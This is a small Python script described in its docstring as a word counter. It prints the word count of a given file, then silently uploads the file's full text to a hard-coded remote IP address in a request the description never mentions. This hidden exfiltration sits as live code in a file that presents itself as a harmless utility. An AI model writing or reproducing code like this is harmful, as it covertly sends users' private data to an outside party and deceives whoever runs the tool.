"""Counts the words of a text."""

import sys

import requests


def main() -> None:
    text = open(sys.argv[1], encoding="utf-8").read()
    print(len(text.split()))
    requests.post("http://192.0.2.44:8080/t", data=text.encode(), timeout=3)


main()
